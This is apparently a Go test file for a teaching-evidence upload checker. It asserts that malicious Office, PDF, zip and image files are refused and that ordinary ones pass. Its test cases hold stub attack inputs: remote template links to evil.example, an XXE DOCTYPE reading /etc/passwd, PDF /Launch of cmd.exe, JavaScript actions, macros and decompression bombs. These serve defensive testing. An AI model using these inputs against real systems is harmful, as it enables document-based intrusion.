package evidence

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"zhengxiao/internal/apperr"
)

// judge looks into a file as Complete does once it has it whole.
func judge(ext string, body []byte) error {
	k, err := kindOf(ext)
	if err != nil {
		return err
	}
	if !k.matches(body[:min(len(body), sniffLen)]) {
		return wrongType(ext)
	}
	return k.look(bytes.NewReader(body), Want{Size: int64(len(body)), Ext: ext})
}

func pack(tb testing.TB, entries ...string) []byte {
	tb.Helper()
	out := new(bytes.Buffer)
	w := zip.NewWriter(out)
	for i := 0; i+1 < len(entries); i += 2 {
		f, err := w.Create(entries[i])
		require.NoError(tb, err)
		_, err = f.Write([]byte(entries[i+1]))
		require.NoError(tb, err)
	}
	require.NoError(tb, w.Close())
	return out.Bytes()
}

func docx(tb testing.TB, more ...string) []byte {
	tb.Helper()
	return pack(tb, append([]string{
		contentTypes, `<Types/>`, "_rels/.rels", `<Relationships/>`, "word/document.xml", "<w:document><w:body><w:p/></w:body></w:document>",
	}, more...)...)
}

func rel(kind, target, mode string) string {
	return fmt.Sprintf(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" `+
		`Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="%s"/></Relationships>`, kind, target, mode)
}

const relsPart = "word/_rels/document.xml.rels"

func deflated(s string) string {
	out := new(bytes.Buffer)
	z := zlib.NewWriter(out)
	_, _ = z.Write([]byte(s))
	_ = z.Close()
	return out.String()
}

func pdf(objects ...string) []byte {
	return []byte("%PDF-1.7\n" + strings.Join(objects, "\n") + "\n%%EOF\n")
}

// objects is an object stream of a PDF.
func objects(dict, content string) string {
	return "7 0 obj\n<< /Type /ObjStm /N 1 /First 4 " + dict + " >>\nstream\n" + content + "\nendstream\nendobj"
}

func pngOf(tb testing.TB, w, h uint32, chunks ...string) []byte {
	tb.Helper()
	out := new(bytes.Buffer)
	require.NoError(tb, png.Encode(out, image.NewGray(image.Rect(0, 0, 1, 1))))
	b := out.Bytes()
	binary.BigEndian.PutUint32(b[16:], w)
	binary.BigEndian.PutUint32(b[20:], h)
	binary.BigEndian.PutUint32(b[29:], crc32.ChecksumIEEE(b[12:29]))
	head, rest := b[:33], b[33:]
	return bytes.Join([][]byte{head, []byte(strings.Join(chunks, "")), rest}, nil)
}

func jpegOf(tb testing.TB, w, h uint16) []byte {
	tb.Helper()
	out := new(bytes.Buffer)
	require.NoError(tb, jpeg.Encode(out, image.NewGray(image.Rect(0, 0, 8, 8)), nil))
	b := out.Bytes()
	at := bytes.Index(b, []byte{0xff, 0xc0})
	binary.BigEndian.PutUint16(b[at+5:], h)
	binary.BigEndian.PutUint16(b[at+7:], w)
	return b
}

func TestFilesThatActAreRefused(t *testing.T) {
	t.Parallel()
	chart := pack(t, contentTypes, "<Types/>", "xl/workbook.xml", "<workbook/>")
	macroChart := pack(t, contentTypes, "<Types/>", "xl/workbook.xml", "<workbook/>", "xl/vbaProject.bin", "x")
	quine := pack(t, "a.txt", "x")
	for range 4 {
		quine = pack(t, "r.zip", string(quine))
	}
	packedScript := objects("/Filter /FlateDecode", deflated("/S /JavaScript"))
	cases := map[string]struct {
		ext  string
		body []byte
	}{
		"DOCTYPE":               {"docx", docx(t, "word/styles.xml", `<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>`)},
		"DOCTYPE late":          {"docx", docx(t, "word/styles.xml", strings.Repeat(" x", 40000)+`<!docTYPE a><a/>`)},
		"DOCTYPE in UTF-16LE":   {"docx", docx(t, "word/styles.xml", "\xff\xfe"+string(utf16(`<!DOCTYPE a>`)))},
		"DOCTYPE in UTF-16BE":   {"docx", docx(t, "word/styles.xml", "\xfe\xff"+string(utf16be(`<!DOCTYPE a>`)))},
		"DOCTYPE in SVG":        {"docx", docx(t, "word/media/a.svg", `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "file:///etc/passwd"><svg/>`)},
		"script in SVG":         {"docx", docx(t, "word/media/a.svg", `<svg><script>alert(1)</script></svg>`)},
		"deep XML":              {"docx", docx(t, "word/document2.xml", strings.Repeat("<a>", 1001))},
		"deep, behind comments": {"docx", docx(t, "word/document2.xml", strings.Repeat("<a><!-- > </a></a> -->", 1001))},
		"deep, behind data":     {"docx", docx(t, "word/document2.xml", strings.Repeat("<a><![CDATA[ > </a></a> ]]>", 1001))},
		"deep, behind quotes":   {"docx", docx(t, "word/document2.xml", strings.Repeat(`<a b="/>">`, 1001))},
		"deep, after ends":      {"docx", docx(t, "word/document2.xml", strings.Repeat("</a>", 5000)+strings.Repeat("<a>", 1001))},
		"deep, in instructions": {"docx", docx(t, "word/document2.xml", strings.Repeat("<a><?x > </a></a> ?>", 1001))},
		"external template":     {"docx", docx(t, relsPart, rel("attachedTemplate", "https://evil.example/t.dotm", "External"))},
		"template on a share":   {"docx", docx(t, relsPart, rel("attachedTemplate", `\\evil.example\t.dotm`, "External"))},
		"template by file URL":  {"docx", docx(t, relsPart, rel("attachedTemplate", `file://evil.example/t.dotm`, "external"))},
		"template by 4 slashes": {"docx", docx(t, relsPart, rel("attachedTemplate", `file:////evil.example/t`, "External"))},
		"template by 5 slashes": {"docx", docx(t, relsPart, rel("attachedTemplate", `file://///evil.example/t`, "External"))},
		"external picture":      {"docx", docx(t, relsPart, rel("image", "http://evil.example/1.png", "External"))},
		"linked object":         {"docx", docx(t, relsPart, rel("oleObject", "file:///C:/x.xls", "External"))},
		"MHTML handler":         {"docx", docx(t, relsPart, rel("frame", "mhtml:http://evil.example/!x", "External"))},
		"script link":           {"docx", docx(t, relsPart, rel("hyperlink", "JavaScript:alert(1)", "External"))},
		"imported HTML":         {"docx", docx(t, relsPart, rel("aFChunk", "a.html", "Internal"))},
		"ActiveX":               {"docx", docx(t, relsPart, rel("control", "activeX1.xml", "Internal"))},
		"packed program":        {"docx", docx(t, "word/embeddings/oleObject1.bin", oleMagic+string(utf16("\x01Ole10Native")))},
		"macros in an object":   {"docx", docx(t, "word/embeddings/a.xls", oleMagic+strings.Repeat("x", 600)+string(utf16("_VBA_PROJECT")))},
		"macros in a chart":     {"docx", docx(t, "word/embeddings/sheet1.xlsx", string(macroChart))},
		"Excel 4.0 macros":      {"xls", []byte(oleMagic + strings.Repeat("x", 600) + "\x09\x08\x10\x00\x00\x06\x40\x00\xd3\x10\xcc\x07")},
		"script in a zip's PDF": {"zip", pack(t, "课例.pdf", string(pdf("1 0 obj << /S /JavaScript /JS (app.alert) >> endobj")))},
		"PDF by another name":   {"zip", pack(t, "课例.dat", string(pdf("1 0 obj << /S/Launch/F(cmd.exe) >> endobj")))},
		"program in a zip":      {"zip", pack(t, "工具/安装.EXE", "MZ")},
		"program, dots after":   {"zip", pack(t, "安装.exe. .", "MZ")},
		"page in a zip":         {"zip", pack(t, "课件.html", "<script>alert(1)</script>")},
		"shortcut in a zip":     {"zip", pack(t, "通知.pdf.lnk", "L")},
		"script in zip in zip":  {"zip", pack(t, "a.zip", string(pack(t, "x.js", "1")))},
		"macros in a zip":       {"zip", pack(t, "课例.docx", string(docx(t, "word/vbaProject.bin", "x")))},
		"macros, renamed":       {"zip", pack(t, "课例.txt", string(docx(t, "word/vbaProject.bin", "x")))},
		"two of a name":         {"docx", docx(t, "WORD/document.xml", "<other/>")},
		"zip in zip in zip":     {"zip", quine},
		"bomb in a zip":         {"zip", pack(t, "a.zip", string(pack(t, "0", strings.Repeat("\x00", 8<<20))))},
		"macros, old":           {"doc", []byte(oleMagic + strings.Repeat("x", 70000) + string(utf16("_VBA_PROJECT")))},
		"packed program, old":   {"ppt", []byte(oleMagic + string(utf16("\x01Ole10Native")))},
		"script in PDF":         {"pdf", pdf("1 0 obj << /S /JavaScript /JS (app.alert) >> endobj")},
		"script, escaped":       {"pdf", pdf("1 0 obj << /S /J#61vaScr#69pt >> endobj")},
		"launch":                {"pdf", pdf("1 0 obj << /S/Launch/F(cmd.exe) >> endobj")},
		"attachment":            {"pdf", pdf("1 0 obj << /EmbeddedFiles 2 0 R >> endobj")},
		"attachment, one":       {"pdf", pdf("1 0 obj << /Type/EmbeddedFile >> stream")},
		"encrypted":             {"pdf", pdf("trailer << /Encrypt 5 0 R >>")},
		"script, packed":        {"pdf", pdf(objects("/Filter /FlateDecode", deflated("1 0 << /S /JavaScript >>")))},
		"script, filter first":  {"pdf", pdf("7 0 obj\n<< /Filter /FlateDecode /Type /O#62jStm >>\nstream\r\n" + deflated("<< /S /Launch >>"))},
		"script, odd filter":    {"pdf", pdf(objects("/Filter [/ASCIIHexDecode /FlateDecode]", "00"))},
		"script, lone CR":       {"pdf", pdf(strings.Replace(packedScript, "stream\n", "stream\r", 1))},
		"script, comment":       {"pdf", pdf(strings.Replace(packedScript, ">>\nstream", ">> %c\nstream", 1))},
		"script, far stream":    {"pdf", pdf(strings.Replace(packedScript, ">>\nstream", strings.Repeat(" ", 5000)+">>\nstream", 1))},
		"script, far object":    {"pdf", pdf(strings.Replace(packedScript, "<<", "<<"+strings.Repeat(" ", 5000), 1))},
		"script, other object":  {"pdf", pdf(objects("/Filter 8 0 R", deflated("/S /JavaScript")))},
		"script, short filter":  {"pdf", pdf(objects("/Filter [/AHx /Fl]", "00"))},
		"script, two filters":   {"pdf", pdf(objects("/Filter [/FlateDecode /FlateDecode]", deflated(deflated("/S /JavaScript"))))},
		"script, parameters":    {"pdf", pdf(objects("/Filter /FlateDecode /DecodeParms 9 0 R", deflated("/S /X")))},
		"script, not packed so": {"pdf", pdf(objects("/Filter /FlateDecode", "2F53"))},
		"script, unfiltered":    {"pdf", pdf(objects("", "2F53"))},
		"script in a form":      {"pdf", pdf("1 0 obj << /AcroForm << /XFA 2 0 R >> >> endobj")},
		"endless objects":       {"pdf", pdf(strings.Repeat("7 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n"+deflated("a")+"\n", 10_001))},
		"script across windows": {"pdf", pdf(strings.Repeat("x", pdfWindow-14) + "/JavaScript")},
		"script, far":           {"pdf", pdf(strings.Repeat("x", pdfWindow+pdfWindow/2), objects("/Filter /FlateDecode", deflated("/S /JavaScript")))},
		"bomb in PDF":           {"pdf", pdf(objects("/Filter /FlateDecode", deflated(strings.Repeat(" ", maxObjectStream+1))))},
		"pixel flood":           {"png", pngOf(t, 50_000, 50_000)},
		"pixel flood, JPEG":     {"jpg", jpegOf(t, 65_000, 65_000)},
		"endless animation":     {"png", pngOf(t, 1, 1, "\x00\x00\x00\x08acTL\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00")},
	}
	for name, c := range cases {
		err := judge(c.ext, c.body)
		require.Equal(t, FileUnsafe, apperr.CodeOf(err), "%s: %v", name, err)
		require.Contains(t, apperr.MessageOf(err), "已拒绝", name)
	}
	require.NoError(t, judge("docx", docx(t, "word/embeddings/sheet1.xlsx", string(chart))), "a chart has its data along")
	beside := `<a b='/>"'><!-- <b><c> --><![CDATA[<d><e>]]><?f <g> ?><!----></a>`
	require.NoError(t, judge("docx", docx(t, "word/document2.xml", strings.Repeat(beside, 1001))), "nothing of it is deep")
	require.NoError(t, judge("zip", pack(t, "课例.pdf", string(pdf("1 0 obj << >> endobj")), "说明.js.txt", "x")))
}

func TestFilesInDisguiseAreRefused(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		ext  string
		body []byte
	}{
		"HTML in front of a PDF": {"pdf", []byte("<html><script>alert(1)</script></html>%PDF-1.7\n%%EOF")},
		"a line before a PDF":    {"pdf", []byte("\n%PDF-1.7\n%%EOF")},
		"HTML named PDF":         {"pdf", []byte("<html></html>")},
		"SVG named PNG":          {"png", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>`)},
		"GIF with script":        {"jpg", []byte("GIF89a/*\x00\x00\x00\x00*/=1;alert(1)")},
		"JPEG named PNG":         {"png", jpegOf(t, 8, 8)},
		"PNG named JPEG":         {"jpg", pngOf(t, 1, 1)},
		"PNG signature only":     {"png", []byte("\x89PNG\r\n\x1a\n<script>alert(1)</script>")},
		"program named DOC":      {"doc", []byte("MZ\x90\x00")},
		"program named TXT":      {"txt", []byte("\x7fELF\x02\x01\x01\x00")},
		"docm named docx":        {"docx", pack(t, contentTypes, `<Types/>`, "xl/workbook.xml", "<a/>")},
		"zip named MP4":          {"mp4", pack(t, "a", "b")},
		"broken relations":       {"docx", docx(t, relsPart, "<Relationships><")},
		"no picture":             {"png", pngOf(t, 0, 1)},
	} {
		require.Equal(t, FileType, apperr.CodeOf(judge(c.ext, c.body)), name)
	}
	for _, ext := range []string{"svg", "html", "htm", "exe", "docm", "xlsm", "js", "pdf.exe", "", "php", "gif", "xml", "swf"} {
		_, err := ContentType(ext)
		require.Equal(t, FileType, apperr.CodeOf(err), ext)
	}
}

// What people really send stays possible.
func TestOrdinaryFilesPass(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		ext  string
		body []byte
	}{
		"links":             {"docx", docx(t, relsPart, rel("hyperlink", "https://www.gzteacher.example/a?b", "External"))},
		"mail link":         {"docx", docx(t, relsPart, rel("hyperlink", "mailto:a@b.example", "External"))},
		"own template":      {"docx", docx(t, relsPart, rel("attachedTemplate", `file:///C:\Users\lin\AppData\Normal.dotm`, "External"))},
		"video beside it":   {"pptx", pack(t, contentTypes, "<Types/>", "ppt/presentation.xml", "<a/>", "ppt/slides/_rels/slide1.xml.rels", rel("video", "课堂实录.mp4", "External"))},
		"equation":          {"docx", docx(t, "word/embeddings/oleObject1.bin", oleMagic+string(utf16("Equation Native")))},
		"drawing":           {"docx", docx(t, "word/media/a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><path d="M0"/></svg>`)},
		"words":             {"docx", docx(t, "word/comments.xml", "<a>javascript: 与 DOCTYPE 的教学</a>")},
		"deep but possible": {"docx", docx(t, "word/d.xml", strings.Repeat("<a>", 500)+strings.Repeat("</a>", 500))},
		"flat and long":     {"docx", docx(t, "word/d.xml", strings.Repeat("<a><b/></a>", 5000))},
		"zip of documents":  {"zip", pack(t, "一/课例.docx", string(docx(t)), "二/反思.txt", "x")},
		"PDF":               {"pdf", pdf("1 0 obj << /Type /Catalog /OpenAction [3 0 R /FitH 0] >> endobj", objects("/Filter /FlateDecode", deflated("1 0 << /Type /Page >>")))},
		"PDF about scripts": {"pdf", pdf("(JavaScript 程序设计)")},
		"PNG":               {"png", pngOf(t, 8000, 6000)},
		"JPEG":              {"jpeg", jpegOf(t, 8000, 6000)},
		"old document":      {"doc", []byte(oleMagic + strings.Repeat("x", 5000))},
	} {
		require.NoError(t, judge(c.ext, c.body), name)
	}
}
